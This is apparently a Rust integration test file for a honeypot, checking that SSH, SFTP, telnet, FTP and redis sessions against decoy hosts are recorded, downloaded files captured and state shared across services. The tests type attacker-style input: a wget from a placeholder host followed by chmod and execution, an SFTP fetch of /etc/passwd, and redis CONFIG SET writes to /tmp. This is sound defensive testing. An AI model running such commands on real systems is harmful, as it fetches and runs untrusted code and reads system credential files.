//! Sessions of ssh, sftp and telnet, and the files that all services of a decky share.

use crate::{
    client_ssh::{sftp, ssh, ssh_typed},
    fleet::{Fleet, client, have, printed},
    telnet::Telnet,
};
use serde_json::Value;

#[test]
fn an_interactive_session_is_recorded_with_what_it_fetched_and_ran() {
    if !have("sshpass", "sshpass") {
        return;
    }
    let fleet = Fleet::deploy(71, "accept-after=1");
    let typed = [
        "cd /tmp",
        "wget http://198.51.100.7/loader.x86_64",
        "chmod +x loader.x86_64",
        "./loader.x86_64",
        "echo do\"\"ne",
        "exit",
    ];
    let seen = ssh_typed(&fleet, "root", &typed);
    assert!(seen.contains("198.51.100.7:80... connected"), "{seen}");
    assert!(
        seen.contains("'loader.x86_64' saved") || seen.contains("\u{2018}loader.x86_64\u{2019} saved"),
        "{seen}"
    );
    // Before a program's output bash ends the mode in which pasted text is bracketed.
    assert!(seen.contains("\r\n\u{1b}[?2004l\rdone\r\n"), "{seen:?}");
    fleet.wait_for_text("download_attempt", "url", "http://198.51.100.7/loader.x86_64");
    fleet.wait_for_text("command", "command", "chmod +x loader.x86_64");
    fleet.wait_for("command", |events| {
        events
            .iter()
            .any(|event| {
                event["fields"]["outcome"] == "executed" && event["fields"]["path"] == "/tmp/loader.x86_64"
            })
            .then_some(())
    });
    let stored = fleet.wait_for_text("file_captured", "path", "/tmp/loader.x86_64");
    let program = fleet.artefact(stored["fields"]["sha256"].as_str().unwrap());
    assert!(program.starts_with(b"\x7fELF"), "{} bytes", program.len());
    check_replay(&fleet, &stored["session"], &typed);
}

/// What the list says of the session, and what its recording shows.
fn check_replay(fleet: &Fleet, session: &Value, typed: &[&str]) {
    let session = session.as_str().unwrap();
    fleet.wait_for_text("session_recorded", "format", "asciicast");
    let sessions: Value =
        serde_json::from_str(&fleet.run(&["sessions", "list", "--recorded", "--json"])).unwrap();
    let row = sessions.as_array().unwrap().iter().find(|row| row["id"] == session).unwrap();
    assert!(row["commands"].as_u64().unwrap() >= typed.len() as u64 - 1, "{row}");
    let shown = fleet.run(&["sessions", "replay", session, "--speed", "1000"]);
    for line in ["wget http://198.51.100.7/loader.x86_64", "saved", "done"] {
        assert!(shown.contains(line), "{line} is not in {shown}");
    }
    let raw = fleet.run(&["sessions", "replay", session, "--raw"]);
    let mut lines = raw.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    assert_eq!(lines.next().unwrap()["version"], 2);
    let input: String =
        lines.filter(|event| event[1] == "i").map(|event| event[2].as_str().unwrap().to_owned()).collect();
    for line in typed {
        assert!(input.contains(line), "{line} was typed but is not in {input:?}");
    }
}

#[test]
fn sftp_moves_files_both_ways_and_changes_the_tree() {
    if !have("sftp", "openssh-client") || !have("sshpass", "sshpass") {
        return;
    }
    let fleet = Fleet::deploy(72, "accept-after=1");
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let payload: Vec<u8> = (0..=255).rev().cycle().take(300_000).collect();
    std::fs::write(path("up"), &payload).unwrap();
    let batch = format!(
        "mkdir /tmp/kit\nput {} /tmp/kit/one\nrename /tmp/kit/one /tmp/kit/two\nchmod 755 /tmp/kit/two\n\
         ls -l /tmp/kit\nget /tmp/kit/two {}\nget /etc/passwd {}\nmkdir /tmp/gone\nrmdir /tmp/gone\n\
         put {} /tmp/old\nrm /tmp/old\nln -s /etc/passwd /tmp/kit/link\nls -la /tmp\n",
        path("up"),
        path("down"),
        path("passwd"),
        path("up")
    );
    std::fs::write(path("batch"), batch).unwrap();
    let seen = sftp(&fleet, &["-b", &path("batch")]);
    assert!(seen.contains("-rwxr-xr-x"), "{seen}");
    let (_, listing) = seen.split_once("ls -la /tmp\n").unwrap();
    assert!(listing.contains("/tmp/kit") && !listing.contains("gone") && !listing.contains("old"), "{seen}");
    assert_eq!(std::fs::read(path("down")).unwrap(), payload);
    assert!(std::fs::read_to_string(path("passwd")).unwrap().starts_with("root:x:0:0:"));
    let captured = fleet.wait_for_text("file_captured", "path", "/tmp/kit/one");
    assert_eq!(fleet.artefact(captured["fields"]["sha256"].as_str().unwrap()), payload);
    fleet.wait_for_text("file_read", "path", "/etc/passwd");
    assert_eq!(
        ssh(&fleet, "root", "stat -c '%s %a' /tmp/kit/two; readlink /tmp/kit/link; ls /tmp/old 2>&1"),
        "300000 755\n/etc/passwd\nls: cannot access '/tmp/old': No such file or directory\n"
    );
}

#[test]
fn one_source_has_one_set_of_files_over_all_services() {
    if !have("sshpass", "sshpass") || !have("redis-cli", "redis-tools") || !have("curl", "curl") {
        return;
    }
    let fleet = Fleet::deploy(73, "accept-after=1");
    assert_eq!(ssh(&fleet, "root", "echo by-ssh > /tmp/by-ssh"), "");
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("by-ftp");
    std::fs::write(&file, "by-ftp\n").unwrap();
    let url = format!("ftp://{}:10021//tmp/by-ftp", fleet.ip(0));
    let sent = client("curl", &["-sS", "-T", file.to_str().unwrap(), "-u", "root:toor", &url]);
    assert!(sent.status.success(), "{}", printed(&sent));
    for words in [
        &["CONFIG", "SET", "dir", "/tmp"][..],
        &["CONFIG", "SET", "dbfilename", "by-redis"],
        &["SET", "k", "redis-value"],
        &["SAVE"],
    ] {
        let seen = printed(&client("redis-cli", &[&["-h", &fleet.ip(0), "-p", "16379"], words].concat()));
        assert_eq!(seen, "OK\n", "{words:?}");
    }
    let mut telnet = Telnet::login(&fleet, "root", "toor");
    telnet.run("echo by-telnet > /tmp/by-telnet");
    assert!(telnet.run("cat /tmp/by-ssh /tmp/by-ftp").contains("by-ssh\r\nby-ftp\r\n"));
    drop(telnet);
    let listing = format!("ftp://{}:10021//tmp/", fleet.ip(0));
    let seen = printed(&client("curl", &["-sS", "-u", "root:toor", &listing]));
    for name in ["by-ssh", "by-ftp", "by-redis", "by-telnet"] {
        assert!(seen.contains(name), "{name} is not in {seen}");
    }
    assert!(ssh(&fleet, "root", "cat /tmp/by-redis | strings; cat /tmp/by-telnet").contains("redis-value"));
    check_listings_agree(&fleet);
}

/// A listing over FTP shows the names that the shell shows, hidden ones included.
fn check_listings_agree(fleet: &Fleet) {
    for folder in ["/", "/etc", "/root", "/var/log", "/srv/ftp"] {
        let url = format!("ftp://{}:10021/{}/", fleet.ip(0), folder);
        let seen = printed(&client("curl", &["-sS", "-l", "-u", "root:toor", "-Q", "NOOP", &url]));
        let mut names: Vec<&str> = seen.lines().filter(|name| !name.starts_with('.')).collect();
        names.sort_unstable();
        let shell = ssh(fleet, "root", &format!("ls -1 {folder}"));
        let mut wanted: Vec<&str> = shell.lines().collect();
        wanted.sort_unstable();
        assert_eq!(names, wanted, "{folder}");
    }
}

#[test]
fn what_a_source_wrote_is_there_after_a_restart() {
    if !have("sshpass", "sshpass") {
        return;
    }
    let fleet = Fleet::deploy(74, "accept-after=1");
    assert_eq!(ssh(&fleet, "root", "mkdir -p /opt/kit; echo 1 > /opt/kit/a; rm /etc/motd; echo ok"), "ok\n");
    assert_eq!(ssh(&fleet, "root", "cat /opt/kit/a"), "1\n");
    fleet.restart_services();
    assert_eq!(ssh(&fleet, "root", "cat /opt/kit/a; ls /etc/motd 2>/dev/null"), "1\n");
}
